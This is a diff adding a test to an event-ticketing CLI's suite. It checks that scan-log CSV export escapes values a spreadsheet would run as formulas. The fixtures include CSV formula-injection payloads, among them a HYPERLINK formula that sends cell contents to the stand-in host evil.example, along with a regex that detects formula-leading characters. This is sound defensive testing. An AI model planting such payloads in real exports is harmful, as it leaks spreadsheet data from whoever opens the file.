@@ -101,3 +101,31 @@ test('tickets reindex-search refolds terms written by the migration (lower case 
   expect((await searchAttendees(db, event, 'angstr', 1)).attendees.map((attendee) => attendee.code)).toEqual(['HL-1']);
   expect((await searchAttendees(db, event, 'hl-', 1)).attendees.map((attendee) => attendee.code)).toEqual(['HL-2', 'HL-1']);
 });
+
+test('scanlog export writes scanned text, names and reasons that a spreadsheet would run as formulas as text, with a leading apostrophe', async () => {
+  const db = cli.database.db;
+  const formulaEventId = idIn(await cli.ok('event', 'create', '--org', 'Northwind Live', '--title', 'Formula Night', '--date', '2026-12-01', '--status', 'live'));
+  const event = await findEvent(db, formulaEventId);
+  await writeFile(path.join(cli.dir, 'formula-tickets.csv'), 'code,holder_name,ticket_type,days\nFN-1,+Plus Holder,VIP,all\n');
+  await cli.ok('tickets', 'import', '--event', formulaEventId, 'formula-tickets.csv');
+  // Codes start with a letter or digit, but scanned text is anything; a display name is the user's own text (sign-up), and so is an undo's reason.
+  await cli.ok('user', 'create', '--email', 'formula@example.com', '--username', 'formula', '--name', '=1+1', '--password', 'formula-pass-1');
+  await cli.ok('org', 'add-member', '--org', 'Northwind Live', '--user', 'formula', '--role', 'supervisor');
+  const [formulaUser] = await db.select({ id: users.id }).from(users).where(eq(users.username, 'formula'));
+  const scanner = { userId: formulaUser?.id ?? '' };
+  const scanned = ['=HYPERLINK("https://evil.example/?leak="&B2&C2,"Click")', '+1+2', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\uFF1D1+1', '-FN-1'];
+  for (const qrCode of [...scanned, 'FN-1']) await verifyTicket(db, scanner, { eventId: formulaEventId, qrCode, day: 1 }, NOON_ON_DAY_ONE);
+  const [ticket] = await db.select({ id: tickets.id }).from(tickets).where(eq(tickets.code, 'FN-1'));
+  await undoCheckIn(db, scanner, event, { ticketId: ticket?.id ?? '', day: 1, reason: '-wrong guest' });
+
+  await cli.ok('scanlog', 'export', '--event', formulaEventId, '--out', 'formulas.csv');
+  const cells = parse(await readFile(path.join(cli.dir, 'formulas.csv'), 'utf8')) as string[][];
+  const startsLikeAFormula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
+  expect(cells.flat().filter((cell) => startsLikeAFormula.test(cell))).toEqual([]);
+  const rows = parse(await readFile(path.join(cli.dir, 'formulas.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
+  // Kept whole after the apostrophe: the organizer still reads what was scanned.
+  expect(rows.map((row) => row.code)).toEqual([...scanned.map((text) => `'${text}`), 'FN-1', 'FN-1']);
+  expect(new Set(rows.map((row) => row.user))).toEqual(new Set(["'=1+1"]));
+  expect(rows.at(-1)?.reason).toBe("'-wrong guest");
+  expect(rows.map((row) => row.verdict).slice(-2)).toEqual(['approved', 'undone']);
+});
